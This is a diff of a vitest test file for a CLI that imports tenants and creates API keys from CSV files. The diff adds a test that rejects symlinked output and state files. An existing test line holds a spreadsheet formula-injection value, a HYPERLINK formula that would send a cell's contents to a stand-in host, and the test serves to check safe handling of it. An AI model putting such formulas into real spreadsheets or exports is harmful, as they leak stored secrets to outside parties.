@@ -1,5 +1,5 @@
 // `tenant import` and `key create --from-csv`: what a file may hold, and what a run that continues must have in common.
-import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startSeededServer, type SeededServer } from "../../harness/processes/seeded-server.ts";
@@ -95,6 +95,18 @@ describe("a file", () => {
     expect(readFileSync(keys, "utf8")).toBe(written);
     const id = written.split("\n")[1]?.split(",")[0];
     expect(await cli.api("GET", `/v1/keys/${id}`)).toMatchObject({ name: '=HYPERLINK("https://example.com/?k="&B2)' });
+  });
+
+  it.each(["keys.csv", "keyrack-state"])("creates nothing where FILE.%s is a link to another file", async (name) => {
+    const { id } = await cli.api("POST", "/v1/tenants", { external_id: `link to ${name}` });
+    const file = write(`linked-${name}.csv`, `tenant_id\n${id}\n`);
+    const target = join(cli.dir, write(`target-of-${name}`, "# mine"));
+    const { mode } = statSync(target);
+    symlinkSync(target, join(cli.dir, `${file}.${name}`));
+    const refused = await createKeys(file);
+    expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining(`${file}.${name}: it is a link.`)]);
+    expect([readFileSync(target, "utf8"), statSync(target).mode]).toEqual(["# mine", mode]);
+    expect((await cli.run(["key", "list", "--tenant-id", id, "--quiet"])).stdout).toBe("");
   });
 
   it("continues a run whose state was written by 0.1", async () => {
